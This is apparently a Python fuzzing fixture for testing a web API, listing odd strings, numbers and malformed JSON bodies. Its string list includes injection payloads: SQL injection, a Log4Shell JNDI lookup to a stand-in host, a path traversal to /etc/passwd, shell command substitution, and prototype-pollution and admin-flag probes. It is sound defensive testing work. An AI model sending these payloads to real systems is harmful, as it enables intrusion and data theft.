"""What somebody sends who does not fill in forms: texts, numbers and bodies that no field was made for."""

import json
from collections.abc import Iterator
from typing import Any

TEXTS = (
    "",
    " ",
    "\t\n",
    "\x00",
    "a\x00b",
    "\ud800",
    "\udfff\ud800",
    "\u202eabc",
    "\u2066a\u2069",
    "\u200b\u200d\ufeff",
    "𐍈😀👨‍👩‍👧‍👦",
    "é" + "\u0301" * 200,
    "Z̷̡a̵l̶g̸o̴" * 40,
    "\x01\x07\x1b[31m",
    "\x7f\x85\u2028\u2029",
    "%00%0a%0d",
    "'; DROP TABLE orders_order; --",
    "' OR '1'='1",
    "\\",
    "${jndi:ldap://e.vil/x}",
    "../../../../etc/passwd",
    "| id; `id` $(id)",
    "NaN",
    "null",
    "true",
    "[object Object]",
    "1e309",
    "ﬃ ı İ ß ẞ",
    "x" * 300,
    "x" * 100_000,
)
HUGE = "x" * 10_000_000
NUMBERS = (
    *(-1, 0, 1.5, -0.0, 2**31, 2**31 - 1, 2**63, 2**63 - 1, 2**64, -(2**63), 10**400, 1e308),
    *("1e3", " 1 ", "1", "١٢٣", "0x10", "1_000", "NaN", "Infinity", "-", "", None, True, [], {}, [1]),
)
# Not in JSON, but some programs write them.
BARE = ("NaN", "Infinity", "-Infinity", "1e309", "-1e309", "01", "+1", ".5", "1.", "0x1", "1" * 5000)
OTHER_TYPES = (None, True, 7, 1.5, "teks", [], {}, [[]], {"a": 1}, [None])


def leaves(body: Any, path: tuple = ()) -> Iterator[tuple[tuple, Any]]:
    """Every value of a body, with the way to it."""
    if isinstance(body, dict):
        for name, value in body.items():
            yield from leaves(value, (*path, name))
    elif isinstance(body, list) and body:
        yield from leaves(body[0], (*path, 0))
    elif not isinstance(body, list):
        yield path, body


def put(body: Any, path: tuple, value: Any) -> Any:
    """The same body with another value there."""
    if not path:
        return value
    step, rest = path[0], path[1:]
    if isinstance(body, dict):
        return {**body, step: put(body[step], rest, value)}
    return [put(body[0], rest, value), *body[1:]]


def dumped(body: Any) -> str:
    """As JSON, halves of surrogate pairs included."""
    return json.dumps(body)


def broken_bodies(valid: dict[str, Any]) -> dict[str, tuple[bytes, str]]:
    """Bodies that are wrong as a whole, with their content type."""
    good = json.dumps(valid).encode()
    name = next(iter(valid), "x")
    kind = "application/json"
    return {
        "nothing": (b"", kind),
        "blank": (b"   ", kind),
        "no JSON": (b"{", kind),
        "two": (good + good, kind),
        "a comma too many": (good[:-1] + b",}", kind),
        "comments": (b"/* x */" + good, kind),
        "no UTF-8": (b'{"a": "\xff\xfe"}', kind),
        "UTF-16": (good.decode().encode("utf-16"), kind),
        "a list": (b"[]", kind),
        "a text": (b'"x"', kind),
        "a number": (b"1", kind),
        "null": (b"null", kind),
        "10,000 levels of lists": (b"[" * 10_000 + b"]" * 10_000, kind),
        "10,000 levels of objects": (b'{"a":' * 10_000 + b"1" + b"}" * 10_000, kind),
        "10,000 levels in a field": (
            json.dumps({name: 0}).encode().replace(b"0", b"[" * 10_000 + b"]" * 10_000),
            kind,
        ),
        "10,000 keys": (json.dumps({**valid, **{f"k{n}": n for n in range(10_000)}}).encode(), kind),
        "a key twice": (good[:-1] + b", " + json.dumps({name: None}).encode()[1:], kind),
        "__proto__": (json.dumps({**valid, "__proto__": {"x": 1}, "constructor": {}}).encode(), kind),
        "an unknown key": (json.dumps({**valid, "is_admin": True}).encode(), kind),
        "a key of NUL": (json.dumps({**valid, "\x00": 1}).encode(), kind),
        "three megabytes": (json.dumps({name: "x" * 3_000_000}).encode(), kind),
        "as a form": (good, "application/x-www-form-urlencoded"),
        "as text": (good, "text/plain"),
        "as XML": (b"<?xml version='1.0'?><x/>", "application/xml"),
        "as several parts": (good, "multipart/form-data; boundary=x"),
        "as parts without boundary": (good, "multipart/form-data"),
        "as nonsense": (good, "\u00e9;;;=/"),
    }
